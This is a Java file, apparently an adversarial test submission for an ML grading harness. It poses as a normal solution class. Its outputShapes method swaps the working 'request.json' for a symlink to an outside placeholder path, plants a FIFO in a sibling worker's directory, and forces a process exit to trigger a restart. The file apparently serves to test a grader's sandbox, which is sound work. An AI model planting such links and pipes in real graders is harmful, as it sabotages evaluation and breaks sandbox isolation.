package adv;

import org.mlgrade.api.conv.Chain;
import org.mlgrade.api.conv.ChainCost;
import org.mlgrade.api.conv.ChainShapes;
import org.mlgrade.api.conv.ConvArithmetic;
import org.mlgrade.api.conv.ConvChoice;
import org.mlgrade.api.conv.LayerSearch;

/** Plants a link and a FIFO named like the next child's request file, then exits to force a restart. */
public class Solution implements ConvArithmetic {

  @Override
  public ChainShapes outputShapes(Chain chain) {
    java.nio.file.Path cwd = java.nio.file.Path.of("").toAbsolutePath();
    try {
      java.nio.file.Files.deleteIfExists(cwd.resolve("request.json"));
      java.nio.file.Files.createSymbolicLink(cwd.resolve("request.json"),
          java.nio.file.Path.of("@OUTSIDE@/victim"));
      new ProcessBuilder("mkfifo", cwd.resolveSibling("work-1").resolve("request.json").toString())
          .start().waitFor();
      System.out.println("planted in " + cwd);
    } catch (java.io.IOException | InterruptedException | RuntimeException e) {
      System.out.println("cannot plant: " + e);
    }
    if (chain.input().height() == 8) {
      System.exit(3);
    }
    return ConvMath.shapes(chain);
  }

  @Override
  public ChainCost costs(Chain chain) {
    return ConvMath.costs(chain);
  }

  @Override
  public ConvChoice findConv(LayerSearch search) {
    throw new UnsupportedOperationException("not graded here");
  }
}
